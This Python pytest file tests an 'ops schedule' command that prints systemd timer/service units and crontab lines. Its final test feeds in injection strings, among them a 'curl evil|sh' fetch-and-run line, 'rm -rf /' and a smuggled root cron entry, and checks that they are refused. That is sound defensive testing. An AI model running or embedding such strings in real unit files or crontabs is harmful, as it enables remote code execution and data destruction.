"""`ops schedule`: a systemd timer + service pair and a crontab line, printed; nothing installed."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from ops.schedule import ScheduleError, make_schedule, parse_every, render
from tests.helpers import REPO

BOOK = REPO / "playbooks" / "health-check.yaml"


@pytest.mark.parametrize(("every", "seconds", "calendar", "cron"), [
    ("1m", 60, "*-*-* *:00/1:00", "* * * * *"),
    ("15m", 900, "*-*-* *:00/15:00", "*/15 * * * *"),
    ("30min", 1800, "*-*-* *:00/30:00", "*/30 * * * *"),
    ("1h", 3600, "*-*-* 00/1:00:00", "0 * * * *"),
    ("6h", 21600, "*-*-* 00/6:00:00", "0 */6 * * *"),
    ("24h", 86400, "*-*-* 00:00:00", "0 0 * * *"),
    ("1d", 86400, "*-*-* 00:00:00", "0 0 * * *"),
])
def test_every(every: str, seconds: int, calendar: str, cron: str) -> None:
    interval = parse_every(every)
    assert (interval.seconds, interval.on_calendar, interval.cron) == (seconds, calendar, cron)


@pytest.mark.parametrize("every", ["", "1", "h", "0m", "7m", "90m", "5h", "2d", "1w", "-1h", "1.5h", "every hour"])
def test_bad_every(every: str) -> None:
    with pytest.raises(ScheduleError, match="--every"):
        parse_every(every)


def test_units_and_crontab_line(tmp_path: Path) -> None:
    s = make_schedule(BOOK, "15m", inventory=Path("inv.yaml"), user="opsbot", workdir=tmp_path,
                      command=["/opt/ops/bin/ops"])
    assert s.name == "ops-health-check"
    argv = ["/opt/ops/bin/ops", "run", str(BOOK), "-i", str(Path.cwd() / "inv.yaml"),
            "-o", str(tmp_path / "collected"), "--quiet"]
    assert s.command == argv
    service = s.service.splitlines()
    assert "Type=oneshot" in service and "User=opsbot" in service and f"WorkingDirectory={tmp_path}" in service
    assert f"ExecStart={' '.join(argv)}" in service
    timer = s.timer.splitlines()
    assert "OnCalendar=*-*-* *:00/15:00" in timer and "Persistent=true" in timer
    assert "RandomizedDelaySec=45s" in timer and "Unit=ops-health-check.service" in timer
    assert "WantedBy=timers.target" in timer
    assert s.cron == (f"*/15 * * * * cd {tmp_path} && flock -n {tmp_path}/.ops-health-check.lock " + " ".join(argv))
    text = render(s, "opsbot")
    assert text.index("ops-health-check.service") < text.index("[Timer]") < text.index("*/15 * * * *")
    assert "crontab -e -u opsbot" in text


def test_awkward_paths_are_quoted(tmp_path: Path) -> None:
    odd = tmp_path / "my books" / "50% $HOME.yaml"
    s = make_schedule(odd, "1h", inventory=tmp_path / "inv.yaml", name="odd", workdir=tmp_path,
                      command=["/usr/bin/ops"])
    assert f'"{tmp_path}/my books/50%% $$HOME.yaml"' in s.service
    assert f"'{tmp_path}/my books/50\\% $HOME.yaml'" in s.cron  # % ends a cron command unless escaped
    with pytest.raises(ScheduleError, match="--name"):
        make_schedule(BOOK, "1h", inventory=Path("inv.yaml"), name="bad/name")


@pytest.mark.skipif(shutil.which("systemd-analyze") is None, reason="systemd-analyze is not installed")
@pytest.mark.once
def test_systemd_accepts_the_units(tmp_path: Path) -> None:
    s = make_schedule(BOOK, "6h", inventory=REPO / "inventory.yaml", workdir=tmp_path,
                      command=[shutil.which("true") or "/bin/true"])
    (tmp_path / f"{s.name}.service").write_text(s.service)
    (tmp_path / f"{s.name}.timer").write_text(s.timer)
    result = subprocess.run(["systemd-analyze", "verify", f"{s.name}.service", f"{s.name}.timer"], cwd=tmp_path,
                            capture_output=True, text=True, timeout=60)
    assert result.returncode == 0, result.stderr
    result = subprocess.run(["systemd-analyze", "calendar", parse_every("6h").on_calendar], capture_output=True,
                            text=True, timeout=60)
    assert result.returncode == 0 and "Next elapse" in result.stdout, result.stderr


def test_ops_schedule_prints_and_installs_nothing(tmp_path: Path) -> None:
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    ops = [sys.executable, "-m", "ops.cli", "schedule"]
    result = subprocess.run([*ops, str(BOOK), "--every", "1h", "--name", "health"], cwd=tmp_path,
                            capture_output=True, text=True, env=env, timeout=60)
    assert result.returncode == 0, result.stderr
    assert "# ---- /etc/systemd/system/health.service" in result.stdout
    assert "OnCalendar=*-*-* 00/1:00:00" in result.stdout
    assert "inventory.yaml does not exist" in result.stderr
    exec_start = next(line for line in result.stdout.splitlines() if line.startswith("ExecStart="))
    program = exec_start.removeprefix("ExecStart=").split()[0]
    assert Path(program).is_absolute() and exec_start.endswith("--quiet")
    assert f"-i {tmp_path / 'inventory.yaml'}" in exec_start
    assert list(tmp_path.iterdir()) == []  # nothing written, nothing installed
    result = subprocess.run([*ops, str(BOOK), "--every", "7m"], cwd=tmp_path, capture_output=True, text=True,
                            env=env, timeout=60)
    assert result.returncode == 2 and "minutes must divide an hour" in result.stderr and not result.stdout
    result = subprocess.run([*ops, "missing.yaml", "--every", "1h"], cwd=tmp_path, capture_output=True, text=True,
                            env=env, timeout=60)
    assert result.returncode == 2 and "missing.yaml" in result.stderr
    bad = tmp_path / "bad.yaml"
    bad.write_text("name: x\nhosts: all\nsteps: [{name: a, reboot: {}}]\n")
    result = subprocess.run([*ops, str(bad), "--every", "1h", "-i", str(REPO / "inventory.yaml")], cwd=tmp_path,
                            capture_output=True, text=True, env=env, timeout=60)
    assert result.returncode == 2 and "unknown action" in result.stderr and not result.stdout


@pytest.mark.parametrize(("field", "value"), [
    ("user", "ops\nExecStartPre=/bin/sh -c 'curl evil|sh'"), ("workdir", "/srv/ops\nExecStartPre=/bin/true"),
    ("user", "ops; rm -rf /"), ("output", "/srv/out\n* * * * * root evil"),
])
def test_values_that_would_inject_unit_or_cron_lines_are_refused(field: str, value: str, tmp_path: Path) -> None:
    from ops.schedule import ScheduleError, make_schedule

    kwargs: dict[str, object] = {field: Path(value) if field in ("workdir", "output") else value}
    with pytest.raises(ScheduleError):
        make_schedule(tmp_path / "pb.yaml", "1h", inventory=tmp_path / "inventory.yaml", **kwargs)  # type: ignore[arg-type]
